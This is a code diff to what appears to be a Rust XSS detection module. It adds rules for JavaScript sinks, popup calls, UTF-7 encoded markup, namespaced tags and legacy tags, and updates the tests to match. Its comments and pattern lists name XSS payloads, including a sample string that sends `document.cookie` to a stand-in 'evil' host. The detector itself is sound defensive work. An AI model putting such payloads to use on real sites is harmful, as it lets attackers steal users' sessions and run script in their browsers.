@@ -14,6 +14,12 @@
 //!   (`";alert(1)//`, `'-prompt(1)-'`, `';document.cookie`).
 //! - `xss.template` (medium+): `{{ ... constructor ... }}` and similar template-sandbox escapes.
 //! - `xss.html_tag` (high): any other tag outside a small set of formatting tags.
+//! - `xss.dom_sink` (medium+): a JavaScript sink or popup call without a tag around it
+//!   (`document.cookie`, `.innerHTML`, `alert\`1\``, `window['al'+'ert']`, `eval(`).
+//! - `xss.utf7` (medium+): UTF-7 encoded markup, `+ADw-script+AD4-`.
+//!
+//! Namespaced tags (`<x:script>`, `<svg:svg onload=...>`) are read by their local name, and
+//! legacy tags (`<marquee>`, `<xmp>`, `<plaintext>`, `<keygen>`, ...) are dangerous tags.
 
 use super::text::{
     at, find_ci, is_ws, letters, lower_at, prev_non_ws, skip_ws, starts_ci, word_in, ByteSet, Words,
@@ -42,6 +48,16 @@ const DANGEROUS: &[&[u8]] = &[
     b"bgsound",
     b"layer",
     b"ilayer",
+    // Legacy and SVG-animation tags that run script or handlers.
+    b"marquee",
+    b"blink",
+    b"plaintext",
+    b"xmp",
+    b"keygen",
+    b"vmlframe",
+    b"animate",
+    b"discard",
+    b"noembed",
 ];
 
 /// Tags that ordinary rich text uses; only `high` reports tags outside this list.
@@ -236,7 +252,12 @@ fn tag_at(s: &[u8], p: usize, sens: Sensitivity) -> Option<&'static str> {
         return None;
     }
     let mut buf = [0u8; 16];
-    let (n, after) = tag_name(s, j, &mut buf);
+    let (mut n, mut after) = tag_name(s, j, &mut buf);
+    // A namespaced tag (`<x:script>`, `<svg:svg>`, `<html:img>`): XML parsers and old IE read
+    // the local name.
+    if at(s, after) == Some(b':') && at(s, after + 1).is_some_and(|b| b.is_ascii_alphabetic()) {
+        (n, after) = tag_name(s, after + 1, &mut buf);
+    }
     let name = buf.get(..n).unwrap_or_default();
     if !at(s, after).is_none_or(|b| is_ws(b) || matches!(b, b'/' | b'>' | 0)) {
         return None;
@@ -471,10 +492,13 @@ fn event_breakout(s: &[u8]) -> bool {
 /// The rule id of the first XSS pattern in `s` (already decoded), if any.
 pub fn detect(s: &[u8], mask: u32, sens: Sensitivity) -> Option<&'static str> {
     use super::decode as d;
+    let medium = sens >= Sensitivity::Medium;
+    if medium && mask & (d::SPACE | d::PLUS) != 0 && utf7(s) {
+        return Some("xss.utf7");
+    }
     if mask & (d::LT | d::COLON | d::PAREN | d::BRACE | d::QUOTE | d::EQ | d::BACKTICK) == 0 {
         return None;
     }
-    let medium = sens >= Sensitivity::Medium;
     if mask & d::LT != 0 {
         let mut i = 0;
         while let Some(p) = s.get(i..).and_then(|t| t.iter().position(|&b| b == b'<')) {
@@ -507,7 +531,124 @@ pub fn detect(s: &[u8], mask: u32, sens: Sensitivity) -> Option<&'static str> {
     if mask & (d::PAREN | d::BACKTICK | d::SEMI) != 0 && js_breakout(s) {
         return Some("xss.js_breakout");
     }
+    if mask & d::PAREN != 0 && popup_call(s) {
+        return Some("xss.dom_sink");
+    }
+    if mask & (d::PAREN | d::BACKTICK | d::EQ) != 0 && dom_sink(s) {
+        return Some("xss.dom_sink");
+    }
     None
+}
+
+/// JavaScript sinks and calls an XSS payload uses, with no tag around them: the payload lands
+/// in a script or an attribute (`";document.location='//evil/'+document.cookie`,
+/// `alert\`1\``, `[].constructor.constructor('x')()`, `window['al'+'ert'](1)`).
+const DOM_SINKS: Words = Words::new(&[
+    b"document.cookie",
+    b"document.write",
+    b"document.domain",
+    b"document.location",
+    b"window.location",
+    b"location.href",
+    b"location.hash",
+    b".innerhtml",
+    b".outerhtml",
+    b"fromcharcode",
+    b"constructor.constructor",
+    b"constructor(",
+    b"settimeout(",
+    b"setinterval(",
+    b"eval(",
+    b"atob(",
+    b"alert`",
+    b"prompt`",
+    b"confirm`",
+    b"top[",
+    b"window[",
+    b"self[",
+    b"parent[",
+    b"globalthis[",
+    b"import(",
+    b"new function",
+    b"onerror=alert",
+    b"appendchild(",
+    b"createelement(",
+    b"xmlhttprequest",
+    b"srcdoc=",
+]);
+
+/// A sink of `DOM_SINKS` around one of the punctuation bytes every sink holds (`.`, `(`, `[`,
+/// `` ` ``, `=`): only the word before each such byte is looked up, not every position.
+fn dom_sink(s: &[u8]) -> bool {
+    static PUNCT: ByteSet = ByteSet::new(b".([`=");
+    let mut from = 0;
+    while let Some(p) = s
+        .get(from..)
+        .and_then(|t| t.iter().position(|&b| PUNCT.contains(b)))
+    {
+        let q = from + p;
+        from = q + 1;
+        // The sink starts at the word before the byte (`document.cookie`, `eval(`), or at the
+        // byte itself (`.innerHTML`).
+        let start = q - s.get(..q).map_or(0, |t| {
+            t.iter()
+                .rev()
+                .take_while(|b| b.is_ascii_alphanumeric())
+                .count()
+        });
+        if DOM_SINKS.prefix_at(s, start).is_some() || DOM_SINKS.prefix_at(s, q).is_some() {
+            return true;
+        }
+    }
+    false
+}
+
+/// `alert(1)`, `prompt(document.domain)`, `confirm(x)`: a popup called with an argument
+/// ("call alert() sparingly" in prose has none). Found from each `(` back to its word.
+fn popup_call(s: &[u8]) -> bool {
+    let mut from = 0;
+    while let Some(p) = s
+        .get(from..)
+        .and_then(|t| t.iter().position(|&b| b == b'('))
+    {
+        let open = from + p;
+        from = open + 1;
+        if at(s, open + 1).is_none_or(|b| b == b')') {
+            continue;
+        }
+        let start = open
+            - s.get(..open).map_or(0, |t| {
+                t.iter()
+                    .rev()
+                    .take_while(|b| b.is_ascii_alphabetic())
+                    .count()
+            });
+        let word = s.get(start..open).unwrap_or_default();
+        if [&b"alert"[..], b"prompt", b"confirm"]
+            .iter()
+            .any(|w| word.eq_ignore_ascii_case(w))
+        {
+            return true;
+        }
+    }
+    false
+}
+
+/// UTF-7 encoded markup (`+ADw-script+AD4-`): `<`, `>` and `"` as UTF-7 shifts, after `+` or
+/// the space a query's `+` decodes to.
+fn utf7(s: &[u8]) -> bool {
+    let mut i = 0;
+    while let Some(p) = s.get(i..).and_then(|t| t.iter().position(|&b| b == b'A')) {
+        let a = i + p;
+        i = a + 1;
+        if a > 0
+            && matches!(at(s, a - 1), Some(b'+' | b' '))
+            && matches!(s.get(a..a + 4), Some(b"ADw-" | b"AD4-" | b"ACI-"))
+        {
+            return true;
+        }
+    }
+    false
 }
 
 #[cfg(test)]
@@ -762,8 +903,13 @@ mod tests {
     #[test]
     fn sensitivity_changes_reach() {
         assert_eq!(check("<iframe src=x>", Sensitivity::Low), None);
-        assert_eq!(check("<marquee>", Sensitivity::Medium), None);
-        assert_eq!(check("<marquee>", Sensitivity::High), Some("xss.html_tag"));
+        assert_eq!(check("<section>", Sensitivity::Medium), None);
+        assert_eq!(check("<section>", Sensitivity::High), Some("xss.html_tag"));
+        // Legacy tags are dangerous tags since the public-corpus round.
+        assert_eq!(
+            check("<marquee>", Sensitivity::Medium),
+            Some("xss.dangerous_tag")
+        );
         assert_eq!(check("href=javascript:x", Sensitivity::Low), None);
         assert_eq!(
             check("href=javascript:x", Sensitivity::Medium),
